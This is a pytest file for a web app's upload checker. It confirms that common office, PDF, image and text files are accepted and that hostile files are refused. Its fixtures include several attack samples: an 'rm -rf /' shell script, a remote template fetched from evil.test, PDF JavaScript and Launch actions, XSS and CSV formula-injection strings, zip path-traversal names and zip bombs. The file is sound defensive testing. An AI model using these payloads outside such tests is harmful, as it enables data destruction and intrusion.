"""What uploads are by their bytes. Hostile files are refused, each for its own reason."""

from io import BytesIO
from zipfile import ZipFile, ZipInfo

import pytest

from luoshi_web.supervision.progress.files import LARGEST, FileFault, check_file
from luoshi_web.supervision.refusals_progress import SENTENCES
from tests.web.supervision.uploads import JPEG, PDF, TYPES, compound, docx, ofd, png, xlsx, zipped

VBA = "_VBA_PROJECT".encode("utf-16-le")


def _encrypted():
    data = bytearray(docx())
    for at in range(len(data) - 4):  # the flag of every header: local at 6, central at 8
        if data[at : at + 4] == b"PK\x03\x04":
            data[at + 6] |= 1
        if data[at : at + 4] == b"PK\x01\x02":
            data[at + 8] |= 1
    return bytes(data)


def _lying_about_its_size():
    """The directory says 10 bytes, the member unpacks to a million."""
    data = bytearray(docx(members={"word/media/a.xml": b"\0" * 1_000_000}))
    at = data.rindex(b"PK\x01\x02", 0, data.rindex(b"word/media/a.xml"))
    data[at + 24 : at + 28] = (10).to_bytes(4, "little")
    return bytes(data)


def _with_name(name):
    out = BytesIO()
    with ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", b"<w/>")
        info = ZipInfo("placeholder")
        info.filename = name
        archive.writestr(info, b"x")
    return out.getvalue()


REMOTE = (
    b'<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.test/a.dotm" '
    b'TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("name", "content", "media_type"),
    [
        ("通报.pdf", PDF, "application/pdf"),
        ("通报.PDF", PDF, "application/pdf"),
        ("台账.xlsx", xlsx(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("报告.docx", docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("报告.docx", docx(members={"word/embeddings/t.xlsx": xlsx()}), None),
        ("公文.ofd", ofd(), "application/ofd"),
        ("现场.jpeg", JPEG, "image/jpeg"),
        ("现场.png", png(), "image/png"),
        ("旧报告.doc", compound("WordDocument", "1Table"), "application/msword"),
        ("旧表.xls", compound("Workbook"), "application/vnd.ms-excel"),
        ("说明.txt", "已完成三处。\r\n".encode("gb18030"), "text/plain"),
        ("数据.csv", "月份,数值\n1,-5\n2,=3\n".encode(), "text/csv"),
    ],
)
def test_papers_and_pictures_are_taken(name, content, media_type):
    checked = check_file(name, content)
    assert checked.name == name
    assert media_type is None or checked.media_type == media_type


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("空.pdf", b"", "empty"),
        ("大.pdf", PDF + b" " * LARGEST, "too_large"),
        # not what the name says
        ("图.pdf", JPEG, "wrong_ending"),
        ("表.docx", xlsx(), "wrong_ending"),
        ("报告.pdf.exe", PDF, "wrong_ending"),
        ("报告", PDF, "wrong_ending"),
        ("报告.docm", docx(), "wrong_ending"),
        ("网页.html", "<p>内容</p>".encode(), "wrong_ending"),
        # programs
        ("报告.pdf", b"MZ\x90\x00" + b"\0" * 60, "executable"),
        ("报告.pdf", b"\x7fELF" + b"\0" * 60, "executable"),
        ("说明.txt", b"#!/bin/sh\nrm -rf /\n", "executable"),
        ("报告.docx", docx(members={"word/media/a.exe": b"x"}), "executable"),
        ("报告.docx", docx(members={"word/media/a.png": b"MZ\x90\x00\x03"}), "executable"),
        # macros
        ("报告.docx", docx(members={"word/vbaProject.bin": b"x"}), "macros"),
        ("报告.docx", docx(members={"word/VBAPROJECT.BIN": b"x"}), "macros"),
        ("表.xlsx", xlsx({"xl/macrosheets/sheet1.xml": b"x"}), "macros"),
        ("表.xlsx", xlsx({"[Content_Types].xml": TYPES + b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"}), "macros"),
        ("报告.docx", docx(members={"word/embeddings/oleObject1.bin": b"\xd0\xcf" + VBA}), "macros"),
        ("报告.docx", docx(members={"word/embeddings/t.xlsx": xlsx({"xl/vbaProject.bin": b"x"})}), "macros"),
        ("旧报告.doc", compound("WordDocument", "Macros", "_VBA_PROJECT"), "macros"),
        ("旧表.xls", compound("Workbook", "_VBA_PROJECT_CUR"), "macros"),
        ("旧表.xls", compound("Workbook", extra=b"\x85\x00\x0c\x00\x10\x00\x00\x00\x00\x01\x04\x00Mac1"), "macros"),
        # what runs by itself
        ("报告.pdf", PDF.replace(b"/Type", b"/OpenAction<</S/JavaScript/JS(x)>>/Type"), "active"),
        ("报告.pdf", PDF.replace(b"/Type", b"/S/J#61vaScript/Type"), "active"),
        ("报告.pdf", PDF.replace(b"/Type", b"/S/Launch/Type"), "active"),
        ("报告.docx", docx(members={"word/_rels/settings.xml.rels": REMOTE}), "active"),
        ("说明.txt", b"<script>alert(1)</script>", "active"),
        ("图.txt", b"<svg onload=alert(1)>", "active"),
        ("数据.csv", b"a,b\n=cmd|' /C calc'!A0,1\n", "active"),
        # archives
        ("资料.zip", zipped({"a.txt": b"x"}), "archive"),
        ("资料.docx", zipped({"a.txt": b"x"}), "archive"),
        ("报告.docx", _with_name("../../etc/cron.d/x"), "archive"),
        ("报告.docx", _with_name("/etc/x"), "archive"),
        ("报告.docx", _with_name("..\\x"), "archive"),
        ("报告.docx", docx(members={"word/media/a.zip": zipped({"a": b"x"})}), "executable"),
        ("报告.docx", docx(members={"word/media/a.xml": b"\0" * (8 << 20)}), "bomb"),
        ("报告.docx", zipped({"word/document.xml": b"<w/>"} | {f"a{n}": b"" for n in range(3000)}), "bomb"),
        ("报告.docx", _lying_about_its_size(), "damaged"),
        ("报告.docx", _encrypted(), "encrypted"),
        ("报告.docx", compound("EncryptedPackage", "EncryptionInfo"), "encrypted"),
        # broken, mixed, unknown
        ("报告.docx", docx()[:-30], "damaged"),
        ("报告.pdf", PDF[:-8], "damaged"),
        ("图.png", png() + zipped({"a.class": b"x"}), "two_in_one"),
        ("报告.pdf", PDF + zipped({"a": b"x"}), "two_in_one"),
        ("旧.doc", compound("Something"), "unknown_type"),
        ("说明.txt", b"\x00\x01\x02\x03", "unknown_type"),
        ("说明.txt", b"abc\x1b[2Jdef", "unknown_type"),
        ("音.mp3", b"ID3\x03\x00\x00\x00", "unknown_type"),
        ("压缩.rar", b"Rar!\x1a\x07\x01\x00", "unknown_type"),
    ],
)  # fmt: skip
def test_hostile_files_are_refused(name, content, code):
    with pytest.raises(FileFault) as fault:
        check_file(name, content)
    assert fault.value.code == code
    assert f"file_{code}" in SENTENCES
